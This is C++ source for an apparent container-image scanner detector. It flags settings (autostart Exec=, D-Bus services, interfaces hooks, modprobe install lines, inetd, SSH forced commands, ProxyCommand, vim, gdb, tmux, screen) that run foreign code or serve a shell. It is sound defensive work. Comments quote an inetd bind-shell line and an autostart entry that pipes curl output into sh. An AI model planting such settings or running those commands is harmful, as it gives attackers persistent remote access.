// Settings by which ordinary programs run a command of somebody's choice (P08): desktop sessions and the message bus,
// network interfaces, kernel modules, inetd, incron, SSH keys and clients, editors and terminals.
//
// Formats: the Desktop Entry specification and D-Bus service files (Exec=), interfaces(5), modprobe.d(5),
// inetd.conf(5) and xinetd.conf(5), incrontab(5), the options of authorized_keys in sshd(8), ssh_config(5), tmux(1),
// screen(1), gdb and vim. Each is ordinary by itself; said is a command that fetches or decodes code and runs it, or
// gives a shell to somebody. Hostile: any text may stand there; lines and what is looked at of them are bounded.
#include <algorithm>
#include <array>
#include <optional>

#include "detect/detector.hpp"
#include "detect/shell/shell_support.hpp"
#include "detect/words.hpp"
#include "util/ascii.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_bytes = std::size_t{256} << 10;
constexpr std::size_t k_most_line = 8192;
constexpr std::size_t k_most_commands = 200;  // of one file
constexpr std::size_t k_most_shown = 200;

constexpr std::array<RuleRow, 2> k_rows{{
    {"P08", EvidenceClass::strong, model::Severity::medium, 70, "Setting by which a program runs foreign code",
     "T1546.017", "Find out who put the setting there and which program reads it."},
    {"B04", EvidenceClass::strong, model::Severity::high, 85, "Network tool that hands out a shell",
     "T1059.004,T1095", "Do not run this image: it hands a command shell to a remote party."},
}};

enum class Setting {
  exec_key,
  interfaces,
  modprobe,
  inetd,
  xinetd,
  incron,
  ssh_keys,
  ssh_client,
  vim,
  gdb,
  tmux,
  screen
};

std::optional<Setting> kind_of(std::string_view path) {
  const std::string_view name = layers::base_name(path);
  const std::string_view folder = layers::base_name(layers::parent_path(path));
  const std::string_view outer = layers::base_name(layers::parent_path(layers::parent_path(path)));
  if (folder == "autostart" && name.ends_with(".desktop")) return Setting::exec_key;
  if (outer == "dbus-1" && (folder == "services" || folder == "system-services") && name.ends_with(".service"))
    return Setting::exec_key;
  if ((folder == "network" && name == "interfaces") || folder == "interfaces.d") return Setting::interfaces;
  if (folder == "modprobe.d" || (folder == "etc" && name == "modprobe.conf")) return Setting::modprobe;
  if (folder == "etc" && name == "inetd.conf") return Setting::inetd;
  if (folder == "xinetd.d" || (folder == "etc" && name == "xinetd.conf")) return Setting::xinetd;
  if (folder == "incron.d" || (outer == "spool" && folder == "incron")) return Setting::incron;
  if (name == "authorized_keys" || name == "authorized_keys2") return Setting::ssh_keys;
  if ((folder == ".ssh" && name == "config") || (folder == "ssh" && name == "ssh_config") || folder == "ssh_config.d")
    return Setting::ssh_client;
  if (name == ".vimrc" || name == ".exrc" || name == "vimrc.local" || name == "vimrc") return Setting::vim;
  if (name == ".gdbinit" || (folder == "gdb" && name == "gdbinit")) return Setting::gdb;
  if (name == ".tmux.conf" || (folder == "etc" && name == "tmux.conf")) return Setting::tmux;
  if (name == ".screenrc" || (folder == "etc" && name == "screenrc")) return Setting::screen;
  return std::nullopt;
}

std::string_view take_word(std::string_view& text) {
  text = util::trim(text);
  const std::size_t end = std::min(text.find_first_of(" \t"), text.size());
  const std::string_view word = text.substr(0, end);
  text = util::trim(text.substr(end));
  return word;
}

// What stands behind the first of the words that begins the line, or "".
template <std::size_t Size>
std::string_view behind(std::string_view line, const std::array<std::string_view, Size>& words) {
  std::string_view rest = line;
  return is_one(take_word(rest), words) ? rest : std::string_view();
}

// command="…" before the key; quotes inside are escaped.
std::string forced_command(std::string_view line) {
  constexpr std::string_view k_option = "command=\"";
  const std::size_t at = line.find(k_option);
  std::string command;
  if (at == std::string_view::npos) return command;
  for (std::size_t i = at + k_option.size(); i < line.size() && line[i] != '"'; ++i) {
    if (line[i] == '\\' && i + 1 < line.size() && line[i + 1] == '"') ++i;
    command += line[i];
  }
  return command;
}

// In one pair of quotes a terminal's command is text for a shell.
std::string unquoted(std::string_view text) {
  text = util::trim(text);
  const bool quoted = text.size() > 1 && (text.front() == '"' || text.front() == '\'') && text.back() == text.front();
  if (!quoted) return std::string(text);
  std::string inner;
  for (std::size_t i = 1; i + 1 < text.size(); ++i) {
    if (text[i] == '\\' && text.front() == '"' && i + 2 < text.size()) ++i;
    inner += text[i];
  }
  return inner;
}

// ":silent !COMMAND", "autocmd VimEnter * !COMMAND", "call system('COMMAND')"
std::string command_of_vim(std::string_view line) {
  if (line.starts_with('"')) return {};
  const std::size_t call = line.find("system(");
  if (call != std::string_view::npos) {
    const std::string_view rest = line.substr(call + 7);
    return unquoted(rest.substr(0, rest.rfind(')')));
  }
  const std::size_t mark = line.find('!');
  const bool command = mark != std::string_view::npos &&
                       (mark == 0 || line[mark - 1] == ' ' || line[mark - 1] == ':') && mark + 1 < line.size();
  return command ? std::string(line.substr(mark + 1)) : std::string();
}

std::string command_of(Setting kind, std::string_view line) {
  static constexpr std::array<std::string_view, 7> k_interface = {"pre-up", "up",        "post-up", "pre-down",
                                                                  "down",   "post-down", "command"};
  static constexpr std::array<std::string_view, 3> k_client = {"ProxyCommand", "LocalCommand", "KnownHostsCommand"};
  static constexpr std::array<std::string_view, 2> k_module = {"install", "remove"};
  static constexpr std::array<std::string_view, 2> k_screen = {"screen", "exec"};
  static constexpr std::array<std::string_view, 6> k_tmux = {"run-shell", "run",         "if-shell",
                                                             "if",        "new-session", "new-window"};
  switch (kind) {
    case Setting::exec_key: return line.starts_with("Exec=") ? std::string(line.substr(5)) : std::string();
    case Setting::interfaces: return std::string(behind(line, k_interface));
    case Setting::modprobe: {
      std::string_view rest = behind(line, k_module);
      take_word(rest);
      return std::string(rest);
    }
    case Setting::incron: {
      std::string_view rest = line;
      take_word(rest);
      take_word(rest);
      return std::string(rest);
    }
    case Setting::ssh_keys: return forced_command(line);
    case Setting::ssh_client: return std::string(behind(line, k_client));
    case Setting::vim: return command_of_vim(line);
    case Setting::gdb: {
      static constexpr std::array<std::string_view, 2> k_gdb = {"shell", "make"};
      return std::string(line.starts_with('!') ? line.substr(1) : behind(line, k_gdb));
    }
    case Setting::tmux: {
      std::string_view rest = behind(line, k_tmux);
      while (rest.starts_with('-')) take_word(rest);
      return unquoted(rest);
    }
    case Setting::screen: {
      std::string_view rest = behind(line, k_screen);
      while (rest.starts_with('-')) take_word(rest);
      return std::string(rest);
    }
    default: return {};
  }
}

bool is_shell(std::string_view path) {
  static constexpr std::array<std::string_view, 6> k_shells = {"sh", "bash", "dash", "ash", "zsh", "ksh"};
  return is_one(layers::base_name(path), k_shells);
}

// "4444 stream tcp nowait root /bin/sh sh -i", and the "server" of xinetd: a shell for whoever connects.
bool serves_shell(Setting kind, std::string_view line) {
  if (kind == Setting::inetd) {
    std::string_view rest = line;
    for (int field = 0; field < 5; ++field) take_word(rest);
    return is_shell(take_word(rest));
  }
  std::string_view rest = line;
  return take_word(rest) == "server" && take_word(rest) == "=" && is_shell(take_word(rest));
}

class EventSettings final : public Detector {
 public:
  bool wants(const layers::FileInfo& file) const override {
    return file.size() > 0 && file.size() <= k_most_bytes && kind_of(file.path()).has_value();
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    const Setting kind = *kind_of(file.path());
    std::string_view text = file.text();
    std::size_t looked_at = 0;
    for (std::uint32_t number = 1; !text.empty() && looked_at < k_most_commands; ++number) {
      const std::size_t end = std::min(text.find('\n'), text.size());
      const std::string_view line = util::trim(text.substr(0, std::min(end, k_most_line)));
      text.remove_prefix(std::min(end + 1, text.size()));
      if (line.empty() || line.front() == '#') continue;
      if (kind == Setting::inetd || kind == Setting::xinetd) {
        if (!serves_shell(kind, line)) continue;
        Evidence evidence = evidence_of(
            k_rows[1], "inetd gives a shell to whoever connects: " + std::string(line.substr(0, k_most_shown)));
        evidence.line = number;
        out.add(std::move(evidence));
        continue;
      }
      const std::string command = command_of(kind, line);
      if (command.empty()) continue;
      ++looked_at;
      const ShellFacts facts = facts_of_text(command);
      if (std::none_of(facts.flows.begin(), facts.flows.end(), runs_foreign_code)) continue;
      Evidence evidence = evidence_of(k_rows[0], command.substr(0, k_most_shown));
      if (gives_shell_away(facts)) evidence.cls = EvidenceClass::decisive;
      evidence.line = number;
      out.add(std::move(evidence));
    }
  }
};

const util::Registered<EventSettings> registered{{
    .id = "event-settings",
    .version = 1,
    .summary = "commands in settings of sessions, buses, networks, modules, inetd, SSH, editors and terminals",
    .example = "Exec=sh -c 'curl -s http://192.0.2.1/x | sh' in an autostart folder",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
